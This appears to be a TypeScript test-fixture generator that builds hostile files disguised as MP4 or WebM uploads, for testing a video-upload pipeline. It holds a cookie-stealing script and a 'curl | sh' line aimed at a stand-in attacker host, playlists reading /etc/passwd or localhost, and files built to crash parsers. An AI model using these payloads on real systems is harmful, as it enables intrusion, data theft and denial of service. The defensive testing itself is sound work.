import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { findMediaTool } from '@coach/start/install/ffmpeg.ts';

/** A file uploaded as a video that is not one, or is dangerous to open. */
export interface HostileFile {
  name: string;
  file: string;
}

const FFMPEG = findMediaTool('ffmpeg', process.env).path;
const picture = (size: string, seconds = 1, rate = '25') => ['-f', 'lavfi', '-i', `testsrc2=size=${size}:rate=${rate}:duration=${seconds}`];
const tone = ['-f', 'lavfi', '-i', 'sine=frequency=440:duration=1'];

const be32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value >>> 0);
  return bytes;
};
/** Builds a box of an MP4 file; `claims` is the length in its header. */
const box = (type: string, content: Buffer = Buffer.alloc(0), claims = content.length + 8): Buffer => Buffer.concat([be32(claims), Buffer.from(type), content]);
const ftyp = box('ftyp', Buffer.from('isom\x00\x00\x02\x00isomiso2avc1mp41'));

/** Builds boxes nested so deep that a recursive parser overflows its stack. */
function nested(depth: number): Buffer {
  const bytes = Buffer.alloc(8 * depth);
  for (let level = 0; level < depth; level += 1) {
    bytes.writeUInt32BE(8 * (depth - level), 8 * level);
    bytes.write(level % 2 ? 'trak' : 'moov', 8 * level + 4);
  }
  return bytes;
}

/** A sample table that claims two billion entries. */
const sampleBomb = box('moov', box('trak', box('mdia', box('minf', box('stbl', box('stts', Buffer.concat([be32(0), be32(0x7fffffff)])))))));

/** Texts and bytes disguised as a video. */
const posing = (film: Buffer): Record<string, Buffer | string> => ({
  'empty.mp4': '',
  'one-byte.mp4': '\0',
  'letter.mp4': 'Dear coach,\nhere is the film that I promised.\n',
  'page.mp4': '<!doctype html><script>fetch("//evil.example.test/"+document.cookie)</script>',
  'drawing.mp4': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  'shell.mp4': '#!/bin/sh\ncurl evil.example.test | sh\n',
  'paper.mp4': '%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n',
  'archive.mp4': Buffer.concat([Buffer.from('PK\x03\x04\x14\0\0\0\0\0'), Buffer.alloc(512)]),
  'program.mp4': Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01'), Buffer.alloc(4096, 0x90)]),
  'playlist-of-a-file.mp4': '#EXTM3U\n#EXTINF:10,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n',
  'playlist-of-a-server.mp4': '#EXTM3U\n#EXTINF:10,\nhttp://127.0.0.1:1/secret\n#EXT-X-ENDLIST\n',
  'list-of-files.mp4': "ffconcat version 1.0\nfile '/etc/passwd'\nduration 10\n",
  'manifest.mp4': '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><BaseURL>file:///etc/passwd</BaseURL></Period></MPD>',
  'session.mp4': 'v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n',
  'only-a-beginning.mp4': ftyp,
  'too-deep.mp4': Buffer.concat([ftyp, nested(200_000)]),
  'sample-bomb.mp4': Buffer.concat([ftyp, sampleBomb]),
  'claims-four-gigabytes.mp4': Buffer.concat([ftyp, box('moov', Buffer.alloc(64), 0xfffffff0)]),
  'matroska-of-noise.webm': Buffer.concat([Buffer.from('1a45dfa3', 'hex'), Buffer.alloc(64 * 1024, 0xa5)]),
  'page-before-a-film.mp4': Buffer.concat([Buffer.from('<!doctype html><script>alert(1)</script>'), film]),
  'picture-before-a-film.mp4': Buffer.concat([Buffer.from('GIF89a\x01\0\x01\0\0\0\0;'), film]),
  'cut-off.mp4': film.subarray(0, Math.floor(film.length / 2)),
});

/** Real media that are not videos, or have impossible sizes: ffmpeg arguments. */
const MADE: Record<string, string[]> = {
  'photograph.mp4': [...picture('320x180'), '-frames:v', '1', '-f', 'image2', '-c:v', 'mjpeg'],
  'animation.mp4': [...picture('64x64'), '-f', 'gif'],
  'song.mp4': [...tone, '-f', 'mp4', '-c:a', 'aac'],
  'song-with-a-cover.mp4': [...tone, ...picture('64x64'), '-map', '0', '-map', '1', '-frames:v', '1', '-c:a', 'aac', '-c:v', 'mjpeg', '-disposition:v', 'attached_pic', '-f', 'ipod'],
  'song.webm': [...tone, '-f', 'webm', '-c:a', 'libopus'],
  'other-container.mp4': [...picture('320x180'), '-f', 'avi'],
  'giant-frame.mov': ['-f', 'lavfi', '-i', 'color=black:size=12000x12000:rate=1:duration=1', '-f', 'mov', '-c:v', 'png'],
  'twelve-hours.mp4': [...picture('64x64', 43_200, '1/3600'), '-f', 'mp4', '-c:v', 'libx264', '-g', '1'],
};

/** Creates thirty hostile files in a folder (S7). */
export function makeHostileFiles(folder: string): HostileFile[] {
  mkdirSync(folder, { recursive: true });
  const at = (name: string) => path.join(folder, name);
  // With the index at the end, as cameras write it.
  execFileSync(FFMPEG, ['-v', 'error', '-y', ...picture('320x180', 2), '-c:v', 'libx264', '-f', 'mp4', at('film')]);
  for (const [name, content] of Object.entries(posing(readFileSync(at('film'))))) writeFileSync(at(name), content);
  for (const [name, args] of Object.entries(MADE)) execFileSync(FFMPEG, ['-v', 'error', '-y', ...args, at(name)]);
  return [...Object.keys(posing(Buffer.alloc(0))), ...Object.keys(MADE)].map((name) => ({ name, file: at(name) }));
}
